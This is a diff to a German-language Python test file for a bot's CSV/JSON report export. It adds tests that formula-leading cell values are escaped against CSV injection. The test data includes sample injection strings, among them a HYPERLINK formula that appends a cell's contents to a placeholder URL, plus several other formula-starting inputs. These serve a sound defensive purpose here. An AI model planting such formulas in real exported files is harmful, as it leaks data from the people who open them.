@@ -4,15 +4,23 @@ from __future__ import annotations
 
 import csv
 import datetime as dt
+import io
 import json
+from collections.abc import AsyncIterator
 from pathlib import Path
 
 import pytest
 from sqlalchemy.ext.asyncio import AsyncEngine
 
 from bot.cli import main
-from modelle.bericht import EXPORT_SPALTEN, statusmeldungen_fuer_export
+from modelle.bericht import (
+    EXPORT_SPALTEN,
+    Exportmeldung,
+    schreibe_export,
+    statusmeldungen_fuer_export,
+)
 from modelle.datenbank import Sitzungsfabrik, erzeuge_sitzungsfabrik
+from modelle.werte import Ampel, Quelle
 from tests import daten
 from tests.test_wochenbericht import Woche, erlebe_woche, erlebe_woche_in
 
@@ -55,9 +63,10 @@ def test_csv_enthaelt_jede_meldung_auch_zurueckgezogene(
     assert waerme["ampel_wort"] == "gelb"
     assert waerme["fortschritt"] == "40"
     assert waerme["herausforderungen"] == "Vergabe <b>dauert</b>"
+    # Auch eine Matrix-ID beginnt mit „@“: in der CSV-Datei mit ' davor (siehe unten).
     assert (waerme["autor"], waerme["autor_matrix_id"]) == (
         "Dr. Anna Becker",
-        "@anna.becker:muenster.de",
+        "'@anna.becker:muenster.de",
     )
     assert waerme["quelle"] == "befehl"
     # Anfangsstände aus der Strukturdatei haben keine Autor*in; archivierte Projekte bleiben.
@@ -106,3 +115,62 @@ async def test_export_vieler_meldungen_vollstaendig_und_geordnet(engine: AsyncEn
         ids = [m.meldung_id async for p in statusmeldungen_fuer_export(sitzung) for m in p]
     erwartet = [m.id for m in sorted(bestand.meldungen, key=lambda m: m.reihung)]
     assert ids == erwartet
+
+
+# Was in einer Tabellenkalkulation beim Öffnen zur Formel würde (CSV-Injektion).
+FORMELN = (
+    '=HYPERLINK("https://example.org/?"&A2;"Details")',
+    "+49 251 492-0",
+    "-2+3",
+    "@SUMME(1;1)",
+    "\t=1+1",
+    "\r=1+1",
+)
+
+
+def _meldung(text: str, herausforderungen: str | None, titel: str) -> Exportmeldung:
+    zeitpunkt = dt.datetime(2026, 11, 20, 14, tzinfo=dt.UTC)
+    return Exportmeldung(
+        meldung_id=1,
+        zeitpunkt=zeitpunkt,
+        themenfeld_slug="energie",
+        themenfeld_name="Energie",
+        projekt_slug="waermeplanung",
+        projekt_titel=titel,
+        ampel=Ampel.GELB,
+        fortschritt=40,
+        text=text,
+        herausforderungen=herausforderungen,
+        autor="=Anna",
+        autor_matrix_id="@anna.becker:muenster.de",
+        quelle=Quelle.BEFEHL,
+        event_id="$e1",
+        bearbeitet_am=None,
+        zurueckgezogen=False,
+        zurueckgezogen_am=None,
+    )
+
+
+async def _portionen(meldungen: list[Exportmeldung]) -> AsyncIterator[list[Exportmeldung]]:
+    yield meldungen
+
+
+@pytest.mark.parametrize("formel", FORMELN, ids=[repr(f[:2]) for f in FORMELN])
+async def test_csv_zellen_mit_formelanfang_bleiben_text_json_bleibt_unveraendert(
+    formel: str,
+) -> None:
+    meldungen = [_meldung(formel, formel, formel)]
+    csv_ziel, json_ziel = io.StringIO(), io.StringIO()
+    await schreibe_export(_portionen(meldungen), csv_ziel, format="csv", zeitzone=dt.UTC)
+    await schreibe_export(_portionen(meldungen), json_ziel, format="json", zeitzone=dt.UTC)
+
+    zeile = next(csv.DictReader(io.StringIO(csv_ziel.getvalue(), newline="")))
+    for spalte in ("text", "herausforderungen", "projekt_titel"):
+        assert zeile[spalte] == "'" + formel, spalte
+    assert zeile["autor"] == "'=Anna"
+    # Was harmlos beginnt, bleibt, wie es ist.
+    assert (zeile["ampel"], zeile["fortschritt"], zeile["event_id"]) == ("gelb", "40", "$e1")
+
+    meldung = json.loads(json_ziel.getvalue())["meldungen"][0]
+    assert (meldung["text"], meldung["herausforderungen"]) == (formel, formel)
+    assert meldung["autor_matrix_id"] == "@anna.becker:muenster.de"
